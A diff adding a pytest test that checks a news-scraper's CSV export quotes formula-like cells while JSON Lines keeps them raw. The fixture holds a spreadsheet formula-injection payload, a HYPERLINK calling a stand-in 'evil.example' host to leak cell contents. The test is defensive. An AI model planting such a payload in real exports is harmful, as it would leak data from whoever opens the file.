@@ -151,3 +151,18 @@ def test_streaming_paths_agree(store):
         assert len(batched) == 6
     # undated last when newest first, as MongoDB sorts null lowest
     assert batched[2]["canonical_url"].endswith("undated-b2")
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_text(store):
+    """A scraped title such as ``=HYPERLINK(...)`` must not become a formula in Excel."""
+    from datetime import UTC, datetime
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
+    store.upsert_articles([
+        {"canonical_url": "http://x.gov.vn/a", "url": "http://x.gov.vn/a", "site_id": "x",
+         "title": hostile, "author": "@admin", "summary": "-1+1", "body": "Nội dung",
+         "views": -3},
+    ], datetime(2024, 1, 1, tzinfo=UTC))
+    _, rows = csv_rows(store, fields=["title", "author", "summary", "body", "views"])
+    assert rows[1] == ["'" + hostile, "'@admin", "'-1+1", "Nội dung", "-3"]
+    assert jsonl(store, fields=["title"])[0]["title"] == hostile  # JSON Lines: as stored
